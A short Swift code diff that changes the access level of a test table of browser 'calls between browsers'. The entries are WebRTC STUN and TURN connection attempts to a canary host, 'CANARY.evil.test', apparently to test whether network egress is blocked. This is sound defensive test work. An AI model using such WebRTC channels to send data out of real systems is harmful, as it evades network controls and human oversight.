@@ -136,7 +136,7 @@ enum BrowserTable {
 
   // MARK: Calls between browsers
 
-  private static let calls: [BrowserAttempt] = [
+  static let calls: [BrowserAttempt] = [
     outside("WebRTC, a STUN server", gathering("stun:CANARY.evil.test:3478"), .network),
     outside("WebRTC, a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp"), .network),
     outside("WebRTC, a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), .network),
